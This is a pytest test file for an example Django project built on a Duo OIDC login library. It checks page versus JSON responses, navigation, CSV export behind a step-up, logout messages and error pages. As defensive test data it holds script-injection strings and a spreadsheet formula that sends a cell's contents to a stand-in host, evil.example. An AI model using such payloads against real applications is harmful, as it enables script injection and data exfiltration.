"""The example project as a newcomer meets it (issue 15): ``/me/`` and ``/me/upstream/`` are pages for a
browser and JSON for everything else, every page has the same navigation, "Export" downloads a CSV
(formula-safe, behind its step-up), a logout says so on the next page, and the settings name a time zone.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
import requests
from django.contrib.auth.models import Group, User
from django.test import Client

import example_project.settings as example_settings
from django_duo_oidc.models import Provider
from django_duo_oidc.testing.fakeop import FakeOP
from example_project import views

from .test_login_views import login, me
from .test_policy import CRM, age_session

pytestmark = pytest.mark.django_db
# What Chromium sends for a page it navigates to.
BROWSER = {"Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"}
NAV = ["Home", "Me", "Contacts", "Export", "Upstream", "Admin"]


def page(client: Client, url: str, status: int = 200) -> str:
    response = client.get(url, headers=BROWSER)
    assert response.status_code == status, response.content
    assert response["Content-Type"].startswith("text/html")
    return response.content.decode()


# /me/: a page for a browser, the JSON contract for the rest ---------------------------------------------


def test_me_is_a_page_with_navigation_for_a_browser(client: Client, fake_op: FakeOP, provider: Provider) -> None:
    login(client, fake_op, scope=CRM)
    html = page(client, "/me/")
    assert "alice@example.test" in html and "crm.contacts.read" in html
    for link in NAV:
        assert f">{link}</a>" in html
    assert ">Log out</button>" in html and 'href="?format=json"' in html


@pytest.mark.parametrize(
    ("url", "headers"),
    [
        ("/me/", {}),
        ("/me/", {"Accept": "*/*"}),
        ("/me/", {"Accept": "application/json"}),
        ("/me/?format=json", BROWSER),
    ],
    ids=["no Accept", "*/*", "application/json", "?format=json"],
)
def test_me_stays_json_for_scripts(
    client: Client, fake_op: FakeOP, provider: Provider, url: str, headers: dict[str, str]
) -> None:
    assert client.get(url, headers=headers).json() == {"authenticated": False}
    login(client, fake_op)
    response = client.get(url, headers=headers)
    assert response.json()["username"] == "alice@example.test"
    assert "Accept" in response["Vary"]


def test_me_tells_a_browser_it_is_not_logged_in(client: Client, provider: Provider) -> None:
    html = page(client, "/me/")
    assert "You are not logged in." in html
    assert ">Log in</a>" in html and ">Log out<" not in html


def test_a_hostile_group_name_is_escaped_on_the_page(client: Client, fake_op: FakeOP, provider: Provider) -> None:
    login(client, fake_op)
    user = User.objects.get(username="alice@example.test")
    user.groups.add(Group.objects.create(name="<script>alert(1)</script>"))
    html = page(client, "/me/")
    assert "<script>alert(1)</script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_the_format_parameter_is_not_reflected(client: Client, provider: Provider) -> None:
    html = page(client, "/me/?format=%3Cscript%3E")
    assert "<script>" not in html and 'href="?format=json"' in html


# Export: a CSV download behind the step-up -------------------------------------------------------------


def rows(response: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_export_downloads_the_contacts_as_csv(client: Client, fake_op: FakeOP, provider: Provider) -> None:
    login(client, fake_op, scope=CRM)
    response = client.get("/contacts/export/", headers=BROWSER)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="contacts.csv"'
    assert response["Cache-Control"] == "no-store"
    assert rows(response) == [["name", "email"], *([c["name"], c["email"]] for c in views.CONTACTS)]


def test_export_cells_never_run_as_a_formula(
    client: Client, fake_op: FakeOP, provider: Provider, monkeypatch: pytest.MonkeyPatch
) -> None:
    evil = {"name": '=HYPERLINK("https://evil.example/?"&A1,"open")', "email": "@SUM(1+1)"}
    monkeypatch.setattr(views, "CONTACTS", [evil])
    login(client, fake_op, scope=CRM)
    assert rows(client.get("/contacts/export/"))[1] == ["'" + evil["name"], "'" + evil["email"]]


def test_export_keeps_its_scope_and_step_up(client: Client, fake_op: FakeOP, provider: Provider) -> None:
    assert client.get("/contacts/export/")["Location"].startswith("/oidc/login/")  # anonymous
    login(client, fake_op)  # without crm.contacts.read
    assert client.get("/contacts/export/").status_code == 403
    login(client, fake_op, scope=CRM)
    age_session(client, auth_time=1.0)  # logged in long ago: Duo again before the download
    response = client.get("/contacts/export/")
    assert response.status_code == 302 and "prompt=login" in response["Location"]


# Logout says so; navigation on every page of the example -----------------------------------------------


def test_logout_says_so_once_on_the_next_page(client: Client, fake_op: FakeOP, provider: Provider) -> None:
    login(client, fake_op)
    response = client.post("/oidc/logout/", follow=True, headers=BROWSER)
    html = response.content.decode()
    assert response.redirect_chain == [("/", 302)]
    assert "You are logged out." in html and ">Log in</a>" in html
    assert "You are logged out." not in page(client, "/")
    assert me(client) == {"authenticated": False}


def test_logout_says_so_when_the_provider_is_down(client: Client, fake_op: FakeOP, provider: Provider) -> None:
    from django.core.cache import cache

    provider.end_session = True
    provider.save()
    login(client, fake_op)
    cache.clear()
    fake_op.faults[".well-known/openid-configuration"] = "down"
    response = client.post("/oidc/logout/", follow=True)
    assert response.redirect_chain == [("/", 302)] and "You are logged out." in response.content.decode()


def test_logout_without_the_messages_middleware_still_logs_out(
    client: Client, fake_op: FakeOP, provider: Provider, settings: Any
) -> None:
    settings.MIDDLEWARE = [m for m in settings.MIDDLEWARE if "messages" not in m]
    login(client, fake_op)
    response = client.post("/oidc/logout/")
    assert (response.status_code, response["Location"]) == (302, "/")
    assert me(client) == {"authenticated": False}


def test_home_names_the_users_and_how_to_switch(client: Client, provider: Provider) -> None:
    html = page(client, "/")
    for who in ("alice", "bob", "carol", "admin"):
        assert f"<dt>{who}</dt>" in html
    assert "?provider=duo&amp;prompt=login&amp;next=/me/" in html  # log in as someone else
    assert "password" in html and "scripts/dev.py example" in html


@pytest.mark.parametrize("url", ["/", "/contacts/"])
def test_every_page_has_the_navigation(client: Client, fake_op: FakeOP, provider: Provider, url: str) -> None:
    login(client, fake_op, scope=CRM)
    html = page(client, url)
    assert all(f">{link}</a>" in html for link in NAV)
    assert "<strong>alice@example.test</strong>" in html


@pytest.fixture
def example_pages(settings: Any) -> None:
    """The example's own templates for the library's 403 and login-failure pages (its DUO_OIDC keys)."""
    keys = ("FORBIDDEN_TEMPLATE", "ERROR_TEMPLATE")
    settings.DUO_OIDC = {**settings.DUO_OIDC, **{key: example_settings.DUO_OIDC[key] for key in keys}}


def test_the_403_page_is_in_the_sites_layout(
    client: Client, fake_op: FakeOP, provider: Provider, example_pages: None
) -> None:
    login(client, fake_op)  # without crm.contacts.read
    html = page(client, "/contacts/?q=%22%3E%3Cscript%3E", status=403)
    assert all(f">{link}</a>" in html for link in NAV)
    assert "<code>crm.contacts.read</code>" in html and ">Request access</a>" in html
    assert ">Log out</button>" in html and "<script>" not in html


def test_a_failed_login_is_in_the_sites_layout(client: Client, provider: Provider, example_pages: None) -> None:
    html = page(client, "/oidc/callback/?code=x&state=forged", status=400)
    assert "We could not log you in" in html and all(f">{link}</a>" in html for link in NAV)


# /me/upstream/ as a page -------------------------------------------------------------------------------


def test_upstream_failure_is_a_page_for_a_browser(
    client: Client, fake_op: FakeOP, provider: Provider, monkeypatch: pytest.MonkeyPatch
) -> None:
    class Unreachable(requests.Session):
        def request(self, *args: Any, **kwargs: Any) -> requests.Response:
            raise requests.ConnectionError("refused")

    monkeypatch.setattr(views, "upstream_session", Unreachable)
    login(client, fake_op, scope=CRM)
    html = page(client, "/me/upstream/", status=502)
    assert "The API could not be reached (ConnectionError)." in html and ">Upstream</a>" in html
    assert client.get("/me/upstream/").json() == {
        "error": "upstream_unreachable",
        "message": "The API could not be reached (ConnectionError).",
    }


# Settings ------------------------------------------------------------------------------------------------


def test_the_example_settings_name_a_time_zone() -> None:
    assert vars(example_settings).get("TIME_ZONE") == "UTC"
    assert example_settings.USE_TZ is True
